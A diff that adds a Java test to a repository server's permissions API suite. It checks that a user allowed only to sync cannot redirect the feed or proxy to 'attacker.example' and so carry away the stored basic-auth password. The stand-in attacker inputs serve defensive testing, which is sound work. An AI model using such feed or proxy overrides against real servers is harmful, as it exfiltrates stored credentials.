@@ -242,6 +242,61 @@ class UsersRolesPermissionsApiTest {
   }
 
   @Test
+  void whoMaySyncCannotSendTheStoredCredentialsToAFeedOfItsOwn() throws Exception {
+    Reply vault =
+        server.call(
+            "POST",
+            API + "repositories/",
+            "{\"id\": \"vault\", \"importer_type_id\": \"echo_importer\", \"importer_config\":"
+                + " {\"feed\": \"https://internal.example/vault/\", \"basic_auth_password\": \"s3cret\"}}");
+    assertThat(vault.status()).as(vault.body()).isEqualTo(201);
+    grant("grant_to_user", "\"login\": \"alice\"", "/v2/repositories/", "[\"EXECUTE\"]");
+
+    Reply elsewhere =
+        asAlice(
+            "POST",
+            "repositories/vault/actions/sync/",
+            "{\"override_config\": {\"feed\": \"https://attacker.example/\"}}");
+    Reply throughProxy =
+        asAlice(
+            "POST",
+            "repositories/vault/actions/sync/",
+            "{\"override_config\": {\"proxy_host\": \"attacker.example\"}}");
+    Reply tuned =
+        asAlice(
+            "POST",
+            "repositories/vault/actions/sync/",
+            "{\"override_config\": {\"notes_per_sync\": 2,"
+                + " \"feed\": \"https://internal.example/vault/\"}}");
+    Reply noSecrets =
+        asAlice(
+            "POST",
+            "repositories/zoo/actions/sync/",
+            "{\"override_config\": {\"feed\": \"https://mirror.example/\"}}");
+
+    assertThat(elsewhere.status()).as(elsewhere.body()).isEqualTo(403);
+    assertThat(elsewhere.json().at("/error/code").asText()).isEqualTo("PLP0026");
+    assertThat(elsewhere.body()).contains("feed").doesNotContain("s3cret");
+    assertThat(throughProxy.status()).as(throughProxy.body()).isEqualTo(403);
+    assertThat(tuned.status()).as("other overrides still go").isEqualTo(202);
+    assertThat(noSecrets.status()).as("nothing stored to carry").isEqualTo(202);
+
+    grant(
+        "grant_to_user",
+        "\"login\": \"alice\"",
+        "/v2/repositories/vault/importers/",
+        "[\"UPDATE\"]");
+    assertThat(
+            asAlice(
+                    "POST",
+                    "repositories/vault/actions/sync/",
+                    "{\"override_config\": {\"feed\": \"https://other.example/\"}}")
+                .status())
+        .as("who may change the importer may redirect one sync")
+        .isEqualTo(202);
+  }
+
+  @Test
   void theLastSuperUserCannotBeRemovedAndSuperUsersIsFixed() throws Exception {
     Reply deleteAdmin = server.call("DELETE", API + "users/admin/", null);
     Reply leaveRole = server.call("DELETE", API + "roles/super-users/users/admin/", null);
